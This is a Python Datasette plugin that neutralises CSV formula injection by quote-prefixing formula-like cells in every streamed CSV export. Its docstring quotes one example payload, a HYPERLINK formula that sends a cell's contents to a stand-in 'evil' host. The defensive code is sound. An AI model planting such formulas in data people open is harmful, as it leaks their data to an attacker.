"""CSV exports cannot carry spreadsheet formulas (OWASP "CSV injection").

A title such as ``=HYPERLINK("http://evil/?"&A1, "click")`` runs as a formula
when a researcher opens Datasette's ``.csv`` export in a spreadsheet. Datasette
writes its CSV itself (no hook reaches the cells), so one ASGI wrapper rewrites
every CSV response the app sends (``.csv`` paths and ``_format=csv``, tables,
rows, SQL and canned queries alike) row by row as it streams: a cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
leading ``'`` (plain numbers such as ``-3.5`` are left as they are).
"""

from __future__ import annotations

import csv
import io
import re

from datasette import hookimpl

from archiver.serve.site import asgi_gate

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def escape_cell(value: str) -> str:
    """``value`` made inert for spreadsheets: a formula-looking start gets a leading quote."""
    if value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class CsvRewriter:
    """Streams CSV text through :func:`escape_cell`, one complete record at a time."""

    def __init__(self) -> None:
        self._pending = ""
        self._in_quotes = False
        self._scanned = 0  # how much of _pending has been scanned for record ends

    def feed(self, text: str) -> str:
        self._pending += text
        out = []
        start = 0
        i = self._scanned
        pending = self._pending
        while i < len(pending):
            ch = pending[i]
            if ch == '"':
                self._in_quotes = not self._in_quotes
            elif ch == "\n" and not self._in_quotes:
                out.append(self._rewrite(pending[start : i + 1]))
                start = i + 1
            i += 1
        self._pending = pending[start:]
        self._scanned = len(self._pending)
        return "".join(out)

    def close(self) -> str:
        rest, self._pending = self._pending, ""
        return self._rewrite(rest) if rest else ""

    @staticmethod
    def _rewrite(record: str) -> str:
        ending = "\r\n" if record.endswith("\r\n") else "\n" if record.endswith("\n") else ""
        rows = list(csv.reader(io.StringIO(record, newline="")))
        buf = io.StringIO()
        writer = csv.writer(buf, lineterminator=ending or "\r\n")
        for row in rows:
            writer.writerow([escape_cell(cell) for cell in row])
        text = buf.getvalue()
        return text if ending else text.removesuffix("\r\n")


def _is_csv(scope: dict) -> bool:
    return scope.get("path", "").endswith(".csv") or b"_format=csv" in scope.get("query_string", b"")


async def _csv_safe(app, scope, receive, send):
    rewriter = CsvRewriter()
    state = {"csv": False}

    async def send_safe(message):
        if message["type"] == "http.response.start":
            ctype = next((v for k, v in message.get("headers", []) if k.lower() == b"content-type"), b"")
            state["csv"] = message.get("status") == 200 and ctype.split(b";")[0].strip() in (
                b"text/csv",
                b"text/plain",
            )
            if state["csv"]:
                headers = [h for h in message.get("headers", []) if h[0].lower() != b"content-length"]
                message = {**message, "headers": headers}
        elif message["type"] == "http.response.body" and state["csv"]:
            text = rewriter.feed(message.get("body", b"").decode("utf-8", "surrogateescape"))
            if not message.get("more_body", False):
                text += rewriter.close()
            message = {**message, "body": text.encode("utf-8", "surrogateescape")}
        await send(message)

    await app(scope, receive, send_safe)


@hookimpl
def asgi_wrapper(datasette):
    return asgi_gate(_is_csv, _csv_safe)
